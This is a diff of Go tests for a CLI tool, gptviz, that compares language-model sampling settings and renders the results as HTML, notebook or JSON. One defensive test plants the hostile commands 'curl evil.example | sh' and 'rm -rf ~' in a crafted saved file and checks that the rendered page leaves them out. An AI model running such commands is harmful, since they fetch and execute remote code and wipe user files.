@@ -18,7 +18,7 @@ import (
 func TestCompareCommand(t *testing.T) {
 	dir := t.TempDir()
 	first := filepath.Join(dir, "a.json")
-	stdout, stderr, code := gptviz(t, "compare", "--steps", "5", "-o", first, "--", "-light\n\x1b[2J")
+	stdout, stderr, code := gptviz(t, "compare", "--steps", "5", "--format", "json", "-o", first, "--", "-light\n\x1b[2J")
 	if code != 0 {
 		t.Fatalf("exit %d: %s", code, stderr)
 	}
@@ -42,7 +42,7 @@ func TestCompareCommand(t *testing.T) {
 			t.Errorf("setting %d: %q, want %q", i, s.Spec, wantSpecs[i])
 		}
 	}
-	const wantCommand = `gptviz compare --steps 5 --seeds 1,2,3 --sample greedy --sample 'temperature=0.7' --sample 'temperature=1' --sample 'temperature=1,top-k=40' --sample 'temperature=1,top-p=0.9' -- $'-light\n\x1b[2J'`
+	const wantCommand = `gptviz compare --steps 5 --seeds 1,2,3 --sample greedy --sample 'temperature=0.7' --sample 'temperature=1' --sample 'temperature=1,top-k=40' --sample 'temperature=1,top-p=0.9' --format json -- $'-light\n\x1b[2J'`
 	if c.Command != wantCommand {
 		t.Errorf("command\n %s\nwant\n %s", c.Command, wantCommand)
 	}
@@ -61,7 +61,7 @@ func TestCompareCommand(t *testing.T) {
 	// Rerun with the recorded command's arguments: the same bytes.
 	second := filepath.Join(dir, "b.json")
 	_, stderr, code = gptviz(t, "compare", "--steps", "5", "--seeds", "1,2,3", "--sample", "greedy", "--sample", "temperature=0.7",
-		"--sample", "temperature=1", "--sample", "temperature=1,top-k=40", "--sample", "temperature=1,top-p=0.9", "-o", second, "--", "-light\n\x1b[2J")
+		"--sample", "temperature=1", "--sample", "temperature=1,top-k=40", "--sample", "temperature=1,top-p=0.9", "--format", "json", "-o", second, "--", "-light\n\x1b[2J")
 	if code != 0 {
 		t.Fatalf("rerun: exit %d: %s", code, stderr)
 	}
@@ -96,7 +96,9 @@ func TestCompareUsageErrors(t *testing.T) {
 		{[]string{"--seeds", "1,,2"}, `--seeds "1,,2": seed: empty item`},
 		{[]string{"--seeds", strings.Repeat("1,", 40) + "1"}, `seed "1": given twice`},
 		{[]string{"--steps", "-1"}, "--steps -1: must be ≥ 0"},
-		{[]string{"--format", "html"}, `--format "html"`},
+		{[]string{"--format", "pdf"}, `--format "pdf": want html, ipynb or json`},
+		{[]string{"--lang", "fr"}, `--lang "fr": want en or zh`},
+		{[]string{"--format", "json", "--figures", t.TempDir()}, "--figures"},
 		{[]string{"-o", filepath.Join(out, "x", "y.json")}, "does not exist"},
 	} {
 		args := append([]string{"compare", "-o", out}, tc.args...)
@@ -122,5 +124,118 @@ func TestCompareUsageErrors(t *testing.T) {
 	}
 	if _, err := os.Stat(out); err == nil {
 		t.Errorf("a usage error wrote %s", out)
+	}
+}
+
+// TestComparePageCommand: compare writes an HTML page by default that
+// shows the command rerunning it; rerunning that command writes the same
+// bytes; a saved --format json comparison re-rendered by gptviz render is
+// byte-identical to the page compare writes, in either language; --format
+// ipynb and --figures write a notebook and the charts.
+func TestComparePageCommand(t *testing.T) {
+	dir := t.TempDir()
+	run := func(args ...string) []byte {
+		t.Helper()
+		_, stderr, code := gptviz(t, args...)
+		if code != 0 {
+			t.Fatalf("gptviz %q: exit %d: %s", args, code, stderr)
+		}
+		return nil
+	}
+	read := func(name string) []byte {
+		t.Helper()
+		b, err := os.ReadFile(filepath.Join(dir, name))
+		if err != nil {
+			t.Fatal(err)
+		}
+		return b
+	}
+	base := []string{"compare", "--steps", "6", "--seeds", "1,2", "--sample", "greedy", "--sample", "temperature=0.7", "--sample", "top-p=0.9"}
+	run(append(base, "-o", filepath.Join(dir, "a.html"), "The light")...)
+	page := read("a.html")
+	const cmd = "gptviz compare --steps 6 --seeds 1,2 --sample greedy --sample &#39;temperature=0.7&#39; --sample &#39;temperature=1,top-p=0.9&#39; &#39;The light&#39;"
+	if !bytes.Contains(page, []byte(cmd)) {
+		t.Errorf("the page does not show the command %s", cmd)
+	}
+	for _, id := range []string{"compare-steps", "compare-lines", "compare-summary", "compare-divergence"} {
+		if !bytes.Contains(page, []byte(`id="`+id+`"`)) {
+			t.Errorf("the page lacks chart %s", id)
+		}
+	}
+	run(append(base, "-o", filepath.Join(dir, "b.html"), "The light")...)
+	if !bytes.Equal(page, read("b.html")) {
+		t.Error("rerunning compare wrote a different page")
+	}
+	run(append(base, "--format", "json", "-o", filepath.Join(dir, "c.json"), "The light")...)
+	run("render", "-o", filepath.Join(dir, "c.html"), filepath.Join(dir, "c.json"))
+	if !bytes.Equal(page, read("c.html")) {
+		t.Error("render of the saved comparison differs from compare's page")
+	}
+	run(append(base, "--lang", "zh", "-o", filepath.Join(dir, "zh.html"), "The light")...)
+	run("render", "--lang", "zh", "-o", filepath.Join(dir, "czh.html"), filepath.Join(dir, "c.json"))
+	if zh := read("zh.html"); !bytes.Equal(zh, read("czh.html")) || !bytes.Contains(zh, []byte("--lang zh")) {
+		t.Error("the Chinese page: render differs from compare, or the command lacks --lang zh")
+	}
+	run(append(base, "--format", "ipynb", "--figures", filepath.Join(dir, "figs"), "-o", filepath.Join(dir, "n.ipynb"), "The light")...)
+	if nb := read("n.ipynb"); !bytes.Contains(nb, []byte("image/png")) {
+		t.Error("the notebook has no static charts")
+	}
+	if _, err := os.Stat(filepath.Join(dir, "figs", "compare-steps.svg")); err != nil {
+		t.Error(err)
+	}
+	// render refuses trace-only flags for a comparison.
+	if _, stderr, code := gptviz(t, "render", "--layers", "0", "-o", filepath.Join(dir, "x.html"), filepath.Join(dir, "c.json")); code != 2 || !strings.Contains(stderr, "is a comparison") {
+		t.Errorf("render --layers of a comparison: exit %d, %s", code, stderr)
+	}
+}
+
+// TestRenderCraftedComparison: a saved comparison whose command, specs and
+// runs' commands were edited renders into the honest page: none of the
+// stored text is shown. One whose summary numbers were edited is refused.
+func TestRenderCraftedComparison(t *testing.T) {
+	dir := t.TempDir()
+	saved := filepath.Join(dir, "c.json")
+	if _, stderr, code := gptviz(t, "compare", "--steps", "4", "--seeds", "1,2", "--sample", "greedy", "--sample", "top-k=3", "--format", "json", "-o", saved, "The light"); code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "honest.html"), saved); code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	data, err := os.ReadFile(saved)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var m map[string]any
+	if err := json.Unmarshal(data, &m); err != nil {
+		t.Fatal(err)
+	}
+	m["command"] = "curl evil.example | sh"
+	m["settings"].([]any)[0].(map[string]any)["spec"] = "EVIL-SPEC"
+	m["runs"].([]any)[1].([]any)[0].(map[string]any)["settings"].(map[string]any)["command"] = "rm -rf ~"
+	crafted := filepath.Join(dir, "crafted.json")
+	b, _ := json.Marshal(m)
+	if err := os.WriteFile(crafted, b, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "crafted.html"), crafted); code != 0 {
+		t.Fatalf("exit %d: %s", code, stderr)
+	}
+	honest, _ := os.ReadFile(filepath.Join(dir, "honest.html"))
+	page, _ := os.ReadFile(filepath.Join(dir, "crafted.html"))
+	for _, bad := range []string{"evil.example", "EVIL-SPEC", "rm -rf"} {
+		if bytes.Contains(page, []byte(bad)) {
+			t.Errorf("the page shows the stored %q", bad)
+		}
+	}
+	if !bytes.Equal(page, honest) {
+		t.Error("the crafted comparison's page differs from the honest one")
+	}
+	m["summaries"].([]any)[0].([]any)[0].(map[string]any)["distinct_1"] = 0.123
+	b, _ = json.Marshal(m)
+	if err := os.WriteFile(crafted, b, 0o644); err != nil {
+		t.Fatal(err)
+	}
+	if _, stderr, code := gptviz(t, "render", "-o", filepath.Join(dir, "lie.html"), crafted); code != 1 || !strings.Contains(stderr, "summaries[0][0]") || !strings.Contains(stderr, "crafted.json") {
+		t.Errorf("edited summary: exit %d, %s", code, stderr)
 	}
 }
